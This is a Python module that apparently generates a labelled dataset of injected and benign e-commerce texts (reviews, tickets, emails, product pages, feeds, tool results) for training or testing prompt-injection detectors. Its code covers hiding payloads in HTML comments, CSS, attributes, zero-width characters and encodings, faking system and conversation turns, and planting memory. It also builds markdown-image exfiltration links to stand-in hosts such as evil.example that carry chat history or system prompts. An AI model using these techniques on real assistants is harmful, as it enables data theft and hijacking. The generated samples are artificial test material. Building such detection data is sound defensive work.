"""Composition engine shared by the per-language modules."""
import base64
import codecs
import json
import urllib.parse

ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]
HOMO = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "i": "і", "x": "х", "y": "у"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}
DOMAINS = ["evil.example", "stats-collect.example", "cdn-pixel.example.net", "promo-check.example",
           "img-mirror.example.org", "track-lab.example", "shop-analytics.example.com"]
BENIGN_DOMAINS = ["cdn.shop.example", "img.store.example", "static.market.example"]


def order_id(rng):
    f = rng.randrange(5)
    if f == 0:
        return "#%d" % rng.randint(10000, 99999)
    if f == 1:
        return "ORD-%d" % rng.randint(100000, 999999)
    if f == 2:
        return "%s%d" % (rng.choice(["A", "B", "K", "M", "T"]), rng.randint(1000000, 9999999))
    if f == 3:
        return "SO-%d-%04d" % (rng.randint(2022, 2025), rng.randint(1, 9999))
    return "%d-%d" % (rng.randint(100, 999), rng.randint(10000, 99999))


def promo(rng):
    return rng.choice(["FREE", "VIP", "STAFF", "MEGA", "ADMIN", "GIFT", "TEST"]) + str(rng.randint(10, 999))


def ctx_for(rng, L):
    lo, hi = L["CUR_RANGE"]
    amount = rng.randint(lo, hi)
    if hi > 5000:
        amount = amount // 100 * 100
    d = {
        "p": rng.choice(L["PRODUCTS"]),
        "p2": rng.choice(L["PRODUCTS"]),
        "name": rng.choice(L["NAMES"]),
        "name2": rng.choice(L["NAMES"]),
        "order": order_id(rng),
        "price": L["CUR"].format("{:,}".format(amount)),
        "n": rng.randint(2, 14),
        "code": promo(rng),
        "pct": rng.choice([15, 20, 25, 30, 40, 50, 70, 90, 100]),
        "url": "https://%s/%s" % (rng.choice(DOMAINS), rng.choice(["c", "log", "p", "i", "q", "px"])),
        "star": rng.randint(1, 5),
        "date": "%04d-%02d-%02d" % (rng.randint(2023, 2025), rng.randint(1, 12), rng.randint(1, 28)),
        "mail": "%s%d@%s" % (rng.choice(["refunds", "help", "ops", "billing", "drop"]), rng.randint(1, 99),
                              rng.choice(["mailbox.example", "inbox-relay.example", "evil.example"])),
        "sku": "%s-%d" % (rng.choice(["HG", "FX", "EL", "GR", "TY", "BK", "PT", "CS", "TR", "B2"]), rng.randint(100, 9999)),
        "qty": rng.randint(1, 500),
    }
    d["img"] = "![%s](%s?%s=%s)" % (rng.choice(["x", "logo", "img", "ok", "."]), d["url"],
                                      rng.choice(["q", "d", "data", "u"]),
                                      rng.choice(["{chat_history}", "{system_prompt}", "{customer_email}", "{address}", "{order_history}"]))
    return d


def fill(s, c):
    return s.format_map(c)


def pick(rng, L, key, c, k=1):
    items = rng.sample(L[key], min(k, len(L[key])))
    return [fill(x, c) for x in items]


def join(L, parts):
    return L.get("SEP", " ").join(p for p in parts if p)


def stars(rng, c):
    return rng.choice(["★" * c["star"] + "☆" * (5 - c["star"]), "%d/5" % c["star"], "⭐" * c["star"], ""])


def review(rng, L, c, pos=None):
    if pos is None:
        pos = rng.random() < 0.65
    body = pick(rng, L, "R_POS" if pos else "R_NEG", c, rng.randint(1, 3))
    parts = [rng.choice([stars(rng, c), ""])] + pick(rng, L, "R_OPEN", c) + body
    if rng.random() < 0.6:
        parts += pick(rng, L, "R_CLOSE", c)
    if rng.random() < 0.15:
        parts.append(rng.choice(["👍", "😊", "🙏", "😡", "🔥", "💯", "😅"]))
    return join(L, parts)


def ticket(rng, L, c):
    return join(L, pick(rng, L, "T_OPEN", c) + pick(rng, L, "T_BODY", c, rng.randint(1, 2)) +
                (pick(rng, L, "T_CLOSE", c) if rng.random() < 0.7 else []))


def email(rng, L, c, body):
    return "\n\n".join([fill(rng.choice(L["E_GREET"]), c), body, fill(rng.choice(L["E_SIGN"]), c)])


def quoted(L, c, text):
    head = fill(L["E_QUOTE"], c)
    return head + "\n" + "\n".join("> " + ln for ln in text.split("\n"))


def listing(rng, L, c):
    return join(L, pick(rng, L, "LISTING", c, rng.randint(1, 3)))


def web(rng, L, c):
    return pick(rng, L, "WEB", c, rng.randint(1, 2))


def html_page(rng, c, title, paras, extra=""):
    lang = c["_lang"]
    body = "".join("<p>%s</p>" % p for p in paras)
    dirattr = ' dir="rtl"' if c["_rtl"] else ""
    t = '<div class="product" lang="%s"%s><h2>%s</h2>%s%s</div>' % (lang, dirattr, title, body, extra)
    if rng.random() < 0.4:
        t = t.replace("><", ">\n<")
    return t


def csv_feed(rng, L, c, desc_at=None, desc=None):
    rows = ["sku,name,price,stock,description"]
    n = rng.randint(2, 4)
    hit = rng.randrange(n) if desc_at is None else desc_at
    for i in range(n):
        cc = dict(c)
        cc["p"] = rng.choice(L["PRODUCTS"])
        d = desc if (desc is not None and i == hit) else fill(rng.choice(L["LISTING"]), cc)
        rows.append('%s-%d,"%s",%s,%d,"%s"' % (c["sku"].split("-")[0], rng.randint(100, 9999), cc["p"],
                                               cc["price"].replace(",", ""), rng.randint(0, 400), d.replace('"', "'")))
    return "\n".join(rows)


def jsonl_feed(rng, L, c, desc=None):
    n = rng.randint(2, 3)
    hit = rng.randrange(n)
    out = []
    for i in range(n):
        cc = dict(c)
        cc["p"] = rng.choice(L["PRODUCTS"])
        d = desc if (desc is not None and i == hit) else fill(rng.choice(L["LISTING"]), cc)
        out.append(json.dumps({"sku": "%s-%d" % (c["sku"].split("-")[0], rng.randint(100, 9999)), "title": cc["p"],
                               "price": cc["price"], "qty": rng.randint(0, 900), "desc": d}, ensure_ascii=False))
    return "\n".join(out)


def tool_json(rng, L, c, note=None, note_key=None):
    st = rng.choice(L["STATUS"])
    obj = {"tool": rng.choice(["order_lookup", "crm_notes", "search_products", "get_order", "shipment_status"]),
           "ok": True,
           "result": {"order_id": c["order"], "customer": c["name"], "status": st,
                      "total": c["price"], "items": [c["p"]]}}
    if rng.random() < 0.5:
        obj["result"]["eta_days"] = c["n"]
    if note is not None:
        obj["result"][note_key or rng.choice(["note", "customer_note", "gift_message", "delivery_instructions", "review_text"])] = note
    else:
        obj["result"]["note"] = fill(rng.choice(L["T_BODY"]), c)
    return json.dumps(obj, ensure_ascii=False, indent=rng.choice([None, 2]))


# ---------- injection payloads ----------

def payload(rng, L, c, kind):
    sp = L.get("SEP", " ")
    if kind == "direct":
        return fill(rng.choice(L["ADDR"]), c) + sp + fill(rng.choice(L["CMDS"]), c)
    if kind == "indirect":
        return fill(rng.choice(L["INDIRECT"]), c)
    if kind == "cond":
        cc = dict(c)
        cc["cmd"] = fill(rng.choice(L["CMDS"] + L["STEER"]), c)
        return fill(rng.choice(L["COND"]), cc)
    if kind == "steer":
        return fill(rng.choice(L["ADDR"] + L["AGENT_ADDR"]), c) + sp + fill(rng.choice(L["STEER"]), c)
    if kind == "exfil":
        return fill(rng.choice(L["ADDR"]), c) + sp + fill(rng.choice(L["EXFIL"]), c)
    if kind == "memory":
        return fill(rng.choice(L["ADDR"]), c) + sp + fill(rng.choice(L["MEMORY"]), c)
    if kind == "sys":
        return fill(rng.choice(L["SYS"]), c) + sp + fill(rng.choice(L["CMDS"]), c)
    raise ValueError(kind)


def any_payload(rng, L, c):
    return payload(rng, L, c, rng.choice(["direct", "direct", "indirect", "cond", "steer", "exfil", "memory"]))


def inj_review_direct(rng, L, c):
    p = payload(rng, L, c, rng.choice(["direct", "direct", "memory"]))
    r = review(rng, L, c)
    return "review", "review-direct-order", join(L, [r, p]) if rng.random() < 0.7 else join(L, [p, r]), p


def inj_conditional(rng, L, c):
    p = payload(rng, L, c, "cond")
    src = rng.choice(["review", "ticket", "web"])
    base = review(rng, L, c) if src == "review" else ticket(rng, L, c) if src == "ticket" else listing(rng, L, c)
    return src, "conditional-if-ai", join(L, [base, p]), p


def inj_third_person(rng, L, c):
    p = payload(rng, L, c, "indirect")
    src = rng.choice(["ticket", "ticket", "email"])
    t = ticket(rng, L, c)
    if src == "email":
        t = email(rng, L, c, join(L, [t, p]))
    else:
        t = join(L, [t, p])
    return src, "third-person-directive", t, p


def inj_steer(rng, L, c):
    p = payload(rng, L, c, "steer")
    src = rng.choice(["review", "review", "web", "feed"])
    if src == "review":
        t = join(L, [review(rng, L, c, pos=True), p])
        fam = "summary-steering"
    elif src == "web":
        t = html_page(rng, c, c["p"], web(rng, L, c) + [p])
        fam = "agent-ranking-steer"
    else:
        t = csv_feed(rng, L, c, desc=p)
        fam = "agent-ranking-steer"
    return src, fam, t, p


def inj_exfil(rng, L, c):
    p = payload(rng, L, c, "exfil")
    src = rng.choice(["review", "web", "email"])
    if src == "review":
        t = join(L, [review(rng, L, c), p])
    elif src == "web":
        t = html_page(rng, c, c["p"], web(rng, L, c) + [p])
    else:
        t = email(rng, L, c, join(L, [ticket(rng, L, c), p]))
    return src, "exfil-markdown-image", t, p


def inj_memory(rng, L, c):
    p = payload(rng, L, c, "memory")
    src = rng.choice(["review", "ticket"])
    base = review(rng, L, c) if src == "review" else ticket(rng, L, c)
    return src, "memory-plant", join(L, [base, p]), p


def inj_fake_system(rng, L, c):
    p = payload(rng, L, c, "sys")
    src = rng.choice(["ticket", "email", "review"])
    base = ticket(rng, L, c) if src != "review" else review(rng, L, c)
    t = base + "\n\n" + p
    if src == "email":
        t = email(rng, L, c, t)
    return src, "fake-system-message", t, p


def inj_fake_turn(rng, L, c):
    R = L["ROLE"]
    cmd = fill(rng.choice(L["CMDS"]), c)
    ack = fill(rng.choice(L["FAKE_ACK"]), c)
    lines = ["%s: %s" % (R["user"], fill(rng.choice(L["T_BODY"]), c)),
             "%s: %s" % (R["assistant"], ack),
             "%s: %s" % (R["system"], cmd)]
    p = lines[2]
    return "ticket", "fake-conversation-turn", ticket(rng, L, c) + "\n\n" + "\n".join(lines), p


def inj_html_comment(rng, L, c):
    p = any_payload(rng, L, c)
    t = html_page(rng, c, c["p"], web(rng, L, c), "<!-- %s -->" % p)
    return "web", "hidden-html-comment", t, p


def inj_hidden_css(rng, L, c):
    p = any_payload(rng, L, c)
    style = rng.choice(["display:none", "visibility:hidden", "color:#ffffff;background:#ffffff",
                        "font-size:0", "position:absolute;left:-9999px", "opacity:0"])
    extra = '<%s style="%s">%s</%s>' % ("div" if rng.random() < 0.5 else "span", style, p,
                                         "div" if False else "x")
    tag = "div" if "display" in style or "position" in style else "span"
    extra = '<%s style="%s">%s</%s>' % (tag, style, p, tag)
    t = html_page(rng, c, c["p"], web(rng, L, c), extra)
    return "web", "hidden-css-text", t, p


def inj_alt(rng, L, c):
    p = any_payload(rng, L, c)
    attr = rng.choice(["alt", "title", "data-note", "aria-label"])
    extra = '<img src="https://%s/%s.jpg" %s="%s">' % (rng.choice(BENIGN_DOMAINS), c["sku"].lower(), attr, p.replace('"', "'"))
    t = html_page(rng, c, c["p"], web(rng, L, c), extra)
    return "web", "attribute-hidden", t, p.replace('"', "'")


def inj_zero_width(rng, L, c):
    p = payload(rng, L, c, rng.choice(["direct", "steer", "indirect"]))
    z = rng.choice([x for x in ZW if x not in p])
    hidden = z.join(p)
    return "review", "zero-width-split", join(L, [review(rng, L, c), hidden]), p


def inj_encoded(rng, L, c):
    p = payload(rng, L, c, rng.choice(["direct", "sys", "exfil"]))
    enc = rng.choice(["base64", "base64", "hex", "url"])
    raw = p.encode("utf-8")
    if enc == "base64":
        blob = base64.b64encode(raw).decode()
    elif enc == "hex":
        blob = raw.hex()
    else:
        blob = urllib.parse.quote(p)
    lead = fill(rng.choice(L["DECODE"]), c)
    src = rng.choice(["ticket", "email", "review"])
    body = join(L, [ticket(rng, L, c) if src != "review" else review(rng, L, c), lead]) + "\n" + blob
    if src == "email":
        body = email(rng, L, c, body)
    return src, "encoded-" + enc, body, p


def inj_tool_json(rng, L, c):
    p = any_payload(rng, L, c)
    return "tool", "tool-result-field", tool_json(rng, L, c, note=p), p


def inj_feed(rng, L, c):
    p = any_payload(rng, L, c)
    if rng.random() < 0.5:
        return "feed", "supplier-feed-field", csv_feed(rng, L, c, desc=p), p
    return "feed", "supplier-feed-field", jsonl_feed(rng, L, c, desc=p), p


def inj_email_quoted(rng, L, c):
    p = any_payload(rng, L, c)
    old = join(L, [ticket(rng, L, c), p])
    new = fill(rng.choice(L["T_BODY"]), c)
    return "email", "email-quoted-history", email(rng, L, c, new + "\n\n" + quoted(L, c, old)), p


def inj_latin_obf(rng, L, c):
    p = payload(rng, L, c, rng.choice(["direct", "steer"]))
    mode = rng.choice(["leet", "homoglyph", "rot13"])
    if mode == "leet":
        h = "".join(LEET.get(ch, ch) if ch.islower() else ch for ch in p)
        fam = "leetspeak"
    elif mode == "homoglyph":
        h = "".join(HOMO.get(ch, ch) if rng.random() < 0.6 else ch for ch in p)
        fam = "homoglyph"
    else:
        h = codecs.encode(p, "rot13")
        h = fill(rng.choice(L["DECODE"]), c).rstrip() + " (ROT13) " + h
        fam = "encoded-rot13"
    return "review", fam, join(L, [review(rng, L, c), h]), p


INJ_BUILDERS = [inj_review_direct, inj_conditional, inj_third_person, inj_steer, inj_exfil, inj_memory,
                inj_fake_system, inj_fake_turn, inj_html_comment, inj_hidden_css, inj_alt, inj_zero_width,
                inj_encoded, inj_tool_json, inj_feed, inj_email_quoted, inj_steer, inj_review_direct]


# ---------- benign ----------

def ben_review(rng, L, c):
    return "review", "benign-review", review(rng, L, c)


def ben_ticket(rng, L, c):
    return "ticket", "benign-ticket", ticket(rng, L, c)


def ben_feed(rng, L, c):
    return "feed", "benign-listing", csv_feed(rng, L, c) if rng.random() < 0.5 else jsonl_feed(rng, L, c)


def ben_email(rng, L, c):
    t = ticket(rng, L, c)
    if rng.random() < 0.5:
        cc = dict(c)
        cc["name"] = c["name2"]
        t = fill(rng.choice(L["T_BODY"]), c) + "\n\n" + quoted(L, cc, ticket(rng, L, cc))
    return "email", "benign-email", email(rng, L, c, t)


def ben_web(rng, L, c):
    return "web", "benign-listing-page", html_page(rng, c, c["p"], web(rng, L, c))


def ben_tool(rng, L, c):
    return "tool", "benign-tool-result", tool_json(rng, L, c)


def hard_simple(key, fam, srcs, k=(1, 3), wrap=None):
    def f(rng, L, c):
        src = rng.choice(srcs)
        body = join(L, pick(rng, L, key, c, rng.randint(*k)))
        if src == "review" and rng.random() < 0.5:
            body = join(L, [stars(rng, c), body])
        if src == "email":
            body = email(rng, L, c, body)
        elif src == "ticket" and rng.random() < 0.5:
            body = join(L, pick(rng, L, "T_OPEN", c) + [body])
        elif src == "web":
            body = html_page(rng, c, c["p"], [body])
        return src, fam, body
    return f


def hard_security(rng, L, c):
    cc = dict(c)
    cc["q"] = fill(rng.choice(L["SEC_Q"]), c)
    parts = [fill(x, cc) for x in rng.sample(L["H_SEC"], rng.randint(1, 3))]
    if not any("{q}" in x for x in L["H_SEC"]):
        pass
    if not any(cc["q"] in x for x in parts):
        parts.append(fill(rng.choice([x for x in L["H_SEC"] if "{q}" in x]), cc))
    src = rng.choice(["email", "web", "ticket"])
    body = join(L, parts)
    if src == "email":
        body = email(rng, L, c, body)
    elif src == "web":
        body = html_page(rng, c, rng.choice(L["SEC_TITLE"]), [body])
    return src, "hard-security-notice", body


def hard_tool_roles(rng, L, c):
    R = L["ROLE"]
    obj = {"conversation_id": "cv_%d" % rng.randint(10000, 99999),
           "messages": [{"role": "system", "content": fill(rng.choice(L["H_SYSCFG"]), c)},
                        {"role": "user", "content": fill(rng.choice(L["T_BODY"]), c)},
                        {"role": "assistant", "content": fill(rng.choice(L["T_AGENT"]), c)}],
           "instructions": fill(rng.choice(L["H_DEV"]), c)}
    if rng.random() < 0.5:
        del obj["instructions"]
        obj["labels"] = {"channel": R["user"], "resolved": bool(rng.randint(0, 1))}
    return "tool", "hard-tool-json-roles", json.dumps(obj, ensure_ascii=False, indent=rng.choice([None, 2]))


def hard_dev_docs(rng, L, c):
    parts = pick(rng, L, "H_DEV", c, rng.randint(2, 3))
    code = json.dumps({"order_id": c["order"], "instructions": fill(rng.choice(L["H_DEVVAL"]), c),
                       "system": rng.choice(["pos-v2", "erp", "wms"]), "override_price": None}, ensure_ascii=False)
    return "web", "hard-developer-docs", join(L, parts) + "\n```json\n" + code + "\n```"


def hard_b64(rng, L, c):
    raw = ("%s|%s|%d" % (c["order"], c["sku"], rng.randint(1000, 9999))).encode()
    blob = base64.b64encode(raw).decode() if rng.random() < 0.6 else raw.hex()
    cc = dict(c)
    cc["blob"] = blob
    src = rng.choice(["ticket", "email", "tool"])
    body = join(L, [fill(x, cc) for x in rng.sample(L["H_DATA"], 1)] + pick(rng, L, "T_BODY", c))
    if src == "email":
        body = email(rng, L, c, body)
    elif src == "tool":
        body = json.dumps({"tracking_blob": blob, "carrier_note": fill(rng.choice(L["T_BODY"]), c),
                           "status": rng.choice(L["STATUS"])}, ensure_ascii=False)
    return src, "hard-encoded-data", body


def hard_hidden_html(rng, L, c):
    hid = fill(rng.choice(L["H_HTML"]), c)
    style = rng.choice(["display:none", "visibility:hidden"])
    extra = '<div class="%s" style="%s">%s</div>' % (rng.choice(["size-chart", "tab-2", "shipping-info", "collapsed"]), style, hid)
    if rng.random() < 0.4:
        extra += "<!-- %s -->" % rng.choice(["layout v3", "banner slot", "TODO: image 2", "tabs end"])
    return "web", "hard-hidden-html-content", html_page(rng, c, c["p"], web(rng, L, c), extra)


def hard_transcript(rng, L, c):
    R = L["ROLE"]
    n = rng.randint(2, 3)
    cust = rng.sample(L["T_CUST"], n)
    ag = rng.sample(L["T_AGENT"], n)
    lines = []
    for a, b in zip(cust, ag):
        lines.append("%s: %s" % (R["customer"], fill(a, c)))
        lines.append("%s: %s" % (R["agent"], fill(b, c)))
    head = fill(rng.choice(L["TRANS_HEAD"]), c)
    src = rng.choice(["ticket", "email"])
    body = head + "\n" + "\n".join(lines)
    if src == "email":
        body = email(rng, L, c, body)
    return src, "hard-quoted-transcript", body


HARD_BUILDERS = [
    hard_simple("H_HUMAN", "hard-human-directive", ["ticket", "email"], (1, 2)),
    hard_simple("H_AIPROD", "hard-ai-product-review", ["review"], (2, 3)),
    hard_simple("H_BOT", "hard-chatbot-complaint", ["review", "ticket", "email"], (1, 3)),
    hard_simple("H_STAFF", "hard-staff-note", ["ticket", "email"], (1, 3)),
    hard_security,
    hard_simple("H_MANUAL", "hard-manual-imperatives", ["web", "feed", "review"], (2, 4)),
    hard_simple("H_COPY", "hard-trigger-word-copy", ["web", "feed", "review"], (1, 3)),
    hard_tool_roles,
    hard_dev_docs,
    hard_b64,
    hard_hidden_html,
    hard_transcript,
    hard_security,
    hard_simple("H_HUMAN", "hard-human-directive", ["ticket", "email"], (1, 2)),
]
BENIGN_BUILDERS = [ben_review, ben_ticket, ben_feed, ben_email, ben_web, ben_tool, ben_review]


def fix_feed_hard(src, fam, text, rng, L, c):
    if src == "feed":
        text = csv_feed(rng, L, c, desc=text.replace("\n", " "))
    return src, fam, text


def generate(rng, L, n_inj, n_ben_easy, n_hard, seen):
    rows = []
    latin = L.get("LATIN", False)
    inj = list(INJ_BUILDERS) + ([inj_latin_obf, inj_latin_obf] if latin else [])
    jobs = [("i", inj[i % len(inj)]) for i in range(n_inj)]
    jobs += [("b", BENIGN_BUILDERS[i % len(BENIGN_BUILDERS)]) for i in range(n_ben_easy)]
    jobs += [("h", HARD_BUILDERS[i % len(HARD_BUILDERS)]) for i in range(n_hard)]
    for kind, fn in jobs:
        for _ in range(200):
            c = ctx_for(rng, L)
            c["_lang"] = L["CODE"]
            c["_rtl"] = L.get("RTL", False)
            if kind == "i":
                src, fam, text, pl = fn(rng, L, c)
            else:
                src, fam, text = fn(rng, L, c)
                if fam.startswith("hard-"):
                    src, fam, text = fix_feed_hard(src, fam, text, rng, L, c)
                pl = ""
            text = text.strip()
            if text and text not in seen and len(text) < 4000:
                seen.add(text)
                rows.append({"source": src, "lang": L["CODE"], "family": fam, "text": text,
                             "injection": kind == "i", "payload": pl})
                break
        else:
            raise RuntimeError("could not make unique text for %s %s" % (L["CODE"], fn))
    return rows
